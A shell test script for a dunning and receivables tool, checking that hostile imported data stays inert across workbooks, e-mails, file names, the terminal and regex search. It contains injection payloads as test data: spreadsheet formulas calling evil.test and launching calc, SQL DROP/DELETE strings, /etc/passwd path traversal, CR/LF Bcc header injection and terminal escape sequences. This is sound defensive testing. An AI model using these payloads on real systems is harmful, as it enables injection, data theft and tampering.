#!/bin/sh
# Hostile input (SPEC §13): imported text never acts. Formulas stay text in
# every workbook, CR/LF in names and e-mails adds no mail header, terminal
# escapes never reach the screen, codes with ../ or / never put a file
# outside the export folder, SQL metacharacters are stored verbatim,
# overlong fields and invalid UTF-8 get a clear answer, catastrophic
# regular expressions stop at PCRE2's limits, amounts beyond what a ledger
# row may hold are refused. A refusal writes nothing.
. "$top_srcdir/tests/tui/lib.sh"
plan 32
H="$top_srcdir/tests/hostile"
PY=/usr/bin/python3
count() { sql "SELECT (SELECT count(*) FROM customer) || ' ' || (SELECT count(*) FROM invoice)"; }
"$DUN" --db "$DB" init >/dev/null

# --- formula injection: every workbook holds the names as text ---------
expect "customers whose names are formulas import" 0 "imported 8 customers (8 new, 0 updated, 0 unchanged)" \
	"$DUN" --db "$DB" import customers "$H/customers.csv"
expect "so do their invoices (PO and number as formulas)" 0 "imported 8 invoices (8 new, 0 updated, 0 unchanged)" \
	"$DUN" --db "$DB" import invoices "$H/invoices.csv"
expect "SQL metacharacters are stored verbatim" 0 "Robert'); DROP TABLE customer;--|x\" OR 1=1 --|'; DELETE FROM invoice;--" \
	sql "SELECT c.name, c.segment, i.po FROM customer c JOIN invoice i ON i.customer_id = c.id WHERE c.code = 'S1'"
mkdir "$TEST_DIR/x"
(cd "$TEST_DIR/x" && "$DUN" --db "$DB" statement F1 -o f1.xlsx >/dev/null &&
	"$DUN" --db "$DB" statements --overdue --dir st >/dev/null &&
	"$DUN" --db "$DB" export aging -o aging.xlsx >/dev/null &&
	"$DUN" --db "$DB" export calllist -o calllist.xlsx >/dev/null)
check "statement, statements, export aging and calllist are written" \
	test -s "$TEST_DIR/x/f1.xlsx" -a -s "$TEST_DIR/x/aging.xlsx" -a -s "$TEST_DIR/x/calllist.xlsx" -a -s "$TEST_DIR/x/st/F2.xlsx"
$PY "$H/xlsx_formulas.py" "$TEST_DIR"/x/*.xlsx "$TEST_DIR"/x/st/*.xlsx >"$TEST_DIR/cells"
expect "the only formulas in them are dun's own SUM totals" 0 "" \
	sh -c "grep '^formula' '$TEST_DIR/cells' | grep -Ev ': =SUM\\([A-Z]+[0-9]+(:[A-Z]+[0-9]+)?\\)\$'; true"
expect "the hostile names and POs are there, as text cells" 0 "+cmd
+cmd|' /C calc'!A0
-2+3
=1+1
=1+2
=HYPERLINK(\"http://evil.test\")
=HYPERLINK(\"http://evil.test/?\"&A1,\"click me\")
=cmd
@SUM(1+1)
@SUM(A1)
Robert'); DROP TABLE customer;--" \
	sh -c "grep '^text' '$TEST_DIR/cells' | sed 's/^[^:]*: //' | sort -u | grep -v DELETE"

# --- paths in codes: nothing outside the export folder ------------------
expect "statement files of codes with / and .. stay in the folder, escaped" 0 "%2E..xlsx
%2Fetc%2Fpasswd.xlsx
F1.xlsx
F2.xlsx
F3.xlsx
F4.xlsx
P1-..%2F..%2F..%2Ftmp.xlsx
S1.xlsx" ls "$TEST_DIR/x/st"
(cd "$TEST_DIR/x" && "$DUN" --db "$DB" statement /etc/passwd >/dev/null && "$DUN" --db "$DB" statement .. >/dev/null)
expect "a statement without -o is named in the current folder" 0 "%2E..xlsx
%2Fetc%2Fpasswd.xlsx" sh -c "cd '$TEST_DIR/x' && ls *.xlsx | grep %"
printf '[company]\nname = Example SAS\n[mail]\nfrom = ar@example.com\n' >"$TEST_DIR/dun.ini"
DUN_CONFIG="$TEST_DIR/dun.ini" "$DUN" --db "$DB" dunning run >/dev/null
DUN_CONFIG="$TEST_DIR/dun.ini" "$DUN" --db "$DB" outbox export "$TEST_DIR/mail" >/dev/null
expect "outbox export names stay in the folder" 0 "000001-__-reminder-1.eml
000002-_etc_passwd-reminder-1.eml
000007-P1-_________tmp-reminder-1.eml" sh -c "ls '$TEST_DIR/mail' | grep -E '^00000[127]'"
check "no file escaped the export folders" sh -c "[ -z \"\$(find '$TEST_DIR' -newer '$TEST_DIR/dun.ini' -type f \
	! -path '$TEST_DIR/x/*' ! -path '$TEST_DIR/mail/*' ! -path '$TEST_DIR/ledger.db*' ! -name '*.tmp*' \
	! -path '$TEST_DIR/home/*' ! -name cells ! -name got ! -name err ! -name want ! -name out)\" ] && [ ! -e /tmp/evil ]"

# --- CR/LF, header lines and terminal escapes in names and e-mails ------
"$DUN" --db "$TEST_DIR/mail.db" init >/dev/null
expect "names with CR/LF, header lines and escapes import" 0 "imported 4 customers (4 new, 0 updated, 0 unchanged)" \
	"$DUN" --db "$TEST_DIR/mail.db" import customers "$H/headers.csv"
"$DUN" --db "$TEST_DIR/mail.db" import invoices "$H/headers-invoices.csv" >/dev/null
DUN_CONFIG="$TEST_DIR/dun.ini" "$DUN" --db "$TEST_DIR/mail.db" dunning run >/dev/null
DUN_CONFIG="$TEST_DIR/dun.ini" "$DUN" --db "$TEST_DIR/mail.db" outbox export "$TEST_DIR/mail2" >/dev/null
expect "each message parses with one recipient, no Bcc, a one-line subject" 0 "000001-E1-reminder-1.eml e1@example.com 1
000002-H1-reminder-1.eml h1@example.com 1
000003-U1-reminder-1.eml u1@example.com 1" $PY -c '
import email, email.policy, email.utils, os, sys
d = sys.argv[1]
for name in sorted(os.listdir(d)):
    with open(os.path.join(d, name), "rb") as f:
        m = email.message_from_binary_file(f, policy=email.policy.default)
    assert m["Bcc"] is None and m["Cc"] is None, name
    assert len(m.get_all("Subject")) == 1 and "\n" not in str(m["Subject"]) and "\x1b" not in str(m["Subject"]), name
    rcpt = email.utils.getaddresses(m.get_all("To"))
    print(name, rcpt[0][1], len(rcpt))
' "$TEST_DIR/mail2"
"$DUN" --db "$TEST_DIR/bad-mail.db" init >/dev/null
"$DUN" --db "$TEST_DIR/bad-mail.db" import customers "$H/email-crlf.csv" >/dev/null
"$DUN" --db "$TEST_DIR/bad-mail.db" import customers "$H/email-list.csv" >/dev/null
printf 'number,customer,issue_date,due_date,amount\nX-M1,M1,2026-08-01,2026-08-31,100.00\nX-M2,M2,2026-08-01,2026-08-31,100.00\n' >"$TEST_DIR/m.csv"
"$DUN" --db "$TEST_DIR/bad-mail.db" import invoices "$TEST_DIR/m.csv" >/dev/null
DUN_CONFIG="$TEST_DIR/dun.ini" "$DUN" --db "$TEST_DIR/bad-mail.db" dunning run >/dev/null
env DUN_CONFIG="$TEST_DIR/dun.ini" "$DUN" --db "$TEST_DIR/bad-mail.db" outbox export "$TEST_DIR/mail3" 2>"$TEST_DIR/crlf.err"
expect "an e-mail address with CR/LF and a Bcc line is refused when the message is made" 0 \
	"dun: message 1 (M1): recipient \"m1@example.com Bcc: evil@evil.test\": not a valid e-mail address dun: message 2 (M2): recipient \"m2@example.com, evil@evil.test\": not a valid e-mail address dun: 2 messages not exported (kept in the outbox)" \
	sh -c "tr '\\r\\n' '  ' <'$TEST_DIR/crlf.err' | sed 's/  / /; s/ \$//'; echo"
sqlite3 "$TEST_DIR/bad-mail.db" "UPDATE outbox SET state = 'held' WHERE id = 1"
expect_err "so is a list of addresses" 1 \
	"dun: message 2 (M2): recipient \"m2@example.com, evil@evil.test\": not a valid e-mail address
dun: 1 message not exported (kept in the outbox)" \
	env DUN_CONFIG="$TEST_DIR/dun.ini" "$DUN" --db "$TEST_DIR/bad-mail.db" outbox export "$TEST_DIR/mail4"
check "and a refused message is not written" sh -c "[ -z \"\$(ls '$TEST_DIR/mail4')\" ]"
ESC=$(printf '\033')
expect "no escape sequence reaches a table on the terminal" 0 "0" \
	sh -c "'$DUN' --db '$TEST_DIR/mail.db' customers --format table | grep -c '$ESC'; true"
expect "the escape-laden name shows with its controls replaced" 0 "E1    ?]0;pwned??[2J?[31mEscape?[0m Corp?[1;1H" \
	sh -c "'$DUN' --db '$TEST_DIR/mail.db' customers --format table | grep '^E1' | sed 's/ *net 30.*//'"
tui_start 100 30 --db "$TEST_DIR/mail.db"
tui_wait "the workstation starts on a ledger of hostile names" "Call list"
tui_keys 2
tui_wait "the name shows, its escapes made harmless" "?]0;pwned??[2J"
check "the screen holds no escape character and the title was not set" \
	sh -c "! tmux -L '$TUI_SOCK' -f /dev/null capture-pane -p | grep -q '$ESC' && [ \"\$(tmux -L '$TUI_SOCK' -f /dev/null display -p '#{pane_title}')\" != pwned ]"

# --- catastrophic regular expressions ---------------------------------
tui_keys /
tui_type '(a+)+$'
tui_wait "a catastrophic search pattern ends, bounded by PCRE2's limits" "no match"
tui_keys Escape 1
tui_wait "and leaves the workstation responsive" "Call list"
tui_keys q
printf 'reference,date,amount,remittance\nR-1,2026-09-01,100.00,aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!\n' >"$TEST_DIR/pay.csv"
"$DUN" --db "$TEST_DIR/mail.db" import payments "$TEST_DIR/pay.csv" >/dev/null
printf '[match]\npattern = (a+)+$\npattern = ((a|aa)*)*b\n' >"$TEST_DIR/regex.ini"
check "a catastrophic [match] pattern returns within seconds" \
	timeout 20 env DUN_CONFIG="$TEST_DIR/regex.ini" "$DUN" --db "$TEST_DIR/mail.db" match

# --- refusals write nothing ---------------------------------------------
"$DUN" --db "$TEST_DIR/r.db" init >/dev/null
printf 'code,name\nV1,Valid\n' >"$TEST_DIR/v.csv"
"$DUN" --db "$TEST_DIR/r.db" import customers "$TEST_DIR/v.csv" >/dev/null
DB="$TEST_DIR/r.db"
expect_err "invalid UTF-8 is named with its file and line" 1 \
	"dun: $H/invalid-utf8.csv:3: invalid UTF-8 (is it cp1252? try --encoding cp1252)" \
	"$DUN" --db "$DB" import customers "$H/invalid-utf8.csv"
expect "and nothing of that file is written" 0 "1 0" count
expect_err "amounts beyond a ledger row's bound are refused, each named" 1 \
	"dun: $H/overflow-invoices.csv:3: amount \"99999999999999999999.99\": amount too large
dun: $H/overflow-invoices.csv:4: amount \"-9223372036854775808\": amount too large
dun: $H/overflow-invoices.csv:5: amount \"92233720368547758.07\": amount too large
dun: $H/overflow-invoices.csv:6: amount \"1e308\": not an amount
dun: $H/overflow-invoices.csv: 4 bad rows, nothing imported" \
	"$DUN" --db "$DB" import invoices "$H/overflow-invoices.csv"
expect "and nothing is written" 0 "1 0" count
printf 'number,customer,issue_date,amount\nB-1,V1,2026-01-01,10000000000000.00\nB-2,V1,2026-01-01,10000000000000.00\n' >"$TEST_DIR/big.csv"
"$DUN" --db "$DB" import invoices "$TEST_DIR/big.csv" >/dev/null
expect "the largest amounts a row may hold still add up exactly" 0 "V1,20000000000000.00" \
	sh -c "'$DUN' --db '$DB' customers | cut -d, -f1,11 | tail -n 1"
expect "a promise beyond the bound is refused" 1 "" "$DUN" --db "$DB" log V1 --promise 2026-12-01 99999999999999999.00
$PY -c "
print('code,name,email')
print('L1,' + 'N' * 200000 + ',l1@example.com')
print('C' * 100000 + ',Long code,l3@example.com')
" >"$TEST_DIR/overlong.csv"
expect "overlong fields are stored whole" 0 "imported 2 customers (2 new, 0 updated, 0 unchanged)" \
	"$DUN" --db "$DB" import customers "$TEST_DIR/overlong.csv"
expect "and read back whole" 0 "2|200000
100000|9" sql "SELECT length(code), length(name) FROM customer WHERE length(code) > 50 OR length(name) > 50 ORDER BY 1"
check "a report over them still runs" sh -c "'$DUN' --db '$DB' customers --format table >/dev/null"
